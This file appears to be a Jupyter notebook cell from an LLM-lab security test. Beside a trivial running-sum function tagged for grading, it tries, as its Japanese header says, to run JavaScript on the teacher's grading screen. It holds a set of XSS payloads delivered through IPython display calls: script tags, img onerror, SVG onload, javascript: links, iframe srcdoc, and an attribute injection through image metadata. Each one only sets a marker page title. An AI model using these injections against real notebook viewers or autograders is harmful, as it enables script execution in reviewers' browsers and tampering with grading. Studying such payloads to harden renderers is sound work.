# tries: 出力に JavaScript を入れ、先生の画面で動かす
# verdict: -
# scores:
# %% grade_id="running"
def running(values):
    return [sum(values[: n + 1]) for n in range(len(values))]


from IPython.display import HTML, SVG, Javascript, Markdown, display

display(HTML("<script>document.title = 'llmlab-pwned'</script><img src=x onerror=\"document.title='llmlab-pwned'\">"))
display(HTML("<table><tr><th>表の見出し</th></tr></table>"))
display(Javascript("document.title = 'llmlab-pwned'"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='llmlab-pwned'\"><script>document.title = 'llmlab-pwned'</script></svg>"))
display(Markdown("<a href=\"javascript:document.title='llmlab-pwned'\">押す</a><iframe srcdoc=\"<script>parent.document.title='llmlab-pwned'</script>\"></iframe>"))
display({"image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBgAAAABQABh6FO1AAAAABJRU5ErkJggg=="}, raw=True, metadata={"image/png": {"width": "1 onerror=document.title='llmlab-pwned'"}})
